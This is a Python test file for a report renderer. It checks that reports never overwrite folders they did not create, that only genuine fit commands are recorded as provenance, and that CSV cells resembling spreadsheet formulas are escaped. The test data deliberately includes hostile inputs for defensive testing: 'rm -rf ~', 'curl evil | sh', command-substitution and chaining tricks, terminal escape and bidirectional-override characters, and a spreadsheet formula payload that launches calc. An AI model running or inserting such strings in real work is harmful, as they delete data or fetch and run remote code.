"""A report writes over no folder of somebody else, and hands on no command of somebody else."""

from __future__ import annotations

import shlex
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pytest

from bayesdensity.base.errors import InputError
from bayesdensity.render.blocks import Code, Paragraph, Report, Section, Table
from bayesdensity.render.markdown import MADE, made_by_report, to_folder
from bayesdensity.render.sections.provenance import command_of
from bayesdensity.render.write import check_request

FITS: Any = {"mine": SimpleNamespace(about={"part": "joint"})}


def page(text: str) -> Report:
    return Report("t", "l", (Section("s", "S", (Paragraph(text), Code("a.json", text))),))


def test_a_folder_of_somebody_else_is_refused_and_left_as_it_is(tmp_path: Path) -> None:
    thesis = tmp_path / "thesis"
    thesis.mkdir()
    check_request(FITS, tmp_path / "thesis.html", None, folder=True)  # an empty one will do
    (thesis / "references.bib").write_text("MINE")
    with pytest.raises(InputError, match=r"thesis is a folder that no report made; name another place"):
        check_request(FITS, tmp_path / "thesis.html", None, folder=True)
    check_request(FITS, tmp_path / "thesis.html", None, folder=False)
    (thesis / "report.md").write_text("# My own report\n")
    with pytest.raises(InputError, match="no report made"):
        check_request(FITS, tmp_path / "thesis.html", None, folder=True)
    assert [path.name for path in tmp_path.iterdir()] == ["thesis"]


def test_a_folder_of_a_report_may_be_renewed(tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    for name, content in to_folder(page("words")).items():
        (folder / name).write_bytes(content)
    assert made_by_report(folder)
    check_request(FITS, tmp_path / "mine.html", None, folder=True)


def test_no_text_of_a_fit_marks_a_folder(tmp_path: Path) -> None:
    content = to_folder(page(MADE))["report.md"].decode()
    assert content.rstrip().count("\n" + MADE) == 2  # in the code, and at the end
    (tmp_path / "report.md").write_text(content.rstrip().removesuffix(MADE))
    assert not made_by_report(tmp_path)


@pytest.mark.parametrize("name", ["missing/mine.html", f"{'n' * 300}.html", "folder.html"])
def test_a_page_that_cannot_be_written_is_refused_first(name: str, tmp_path: Path) -> None:
    (tmp_path / "folder.html").mkdir()
    with pytest.raises(InputError):
        check_request(FITS, tmp_path / name, None, folder=False)
    assert [path.name for path in tmp_path.iterdir()] == ["folder.html"]


OURS = [
    "bayesdensity fit densing-law -o densing-law.nc",
    shlex.join(["bayesdensity", "fit", "my study.toml", "--set", "frontier.quantile=0.9", "-o", "$(x);é.nc"]),
]
FOREIGN = [
    "rm -rf ~",
    "bayesdensity fit a; rm -rf ~",
    "bayesdensity fit a\ncurl evil | sh",
    "bayesdensity fit $(curl evil)",
    "bayesdensity fit `curl evil`",
    "bayesdensity fit a && b",
    "bayesdensity fit 'a",
    "bayesdensity fit 'a\x1b[2J'",
    "bayesdensity fit '\u202e'",
    "bayesdensity simulate a",
    "",
]


@pytest.mark.parametrize("command", OURS)
def test_the_command_that_made_a_fit_is_told(command: str) -> None:
    assert command_of({"command": command}) == command


@pytest.mark.parametrize("command", FOREIGN)
def test_a_command_that_no_fit_was_made_with_is_left_out(command: str) -> None:
    assert command_of({"command": command}) == "" == command_of({})


def test_tables_of_a_folder_hold_no_formulas() -> None:
    shown = pd.DataFrame({"llm": ["=cmd|' /C calc'!A0", "@x", "fine"], "density": ["-1.0", "2.0", "3.0"]})
    files = to_folder(Report("t", "l", (Section("s", "S", (Table("densities", "c", shown),)),)))
    lines = files["tables/densities.csv"].decode().splitlines()
    assert [line[:2] for line in lines[1:]] == ["'=", "'@", "fi"] and lines[1].endswith(",-1.0")
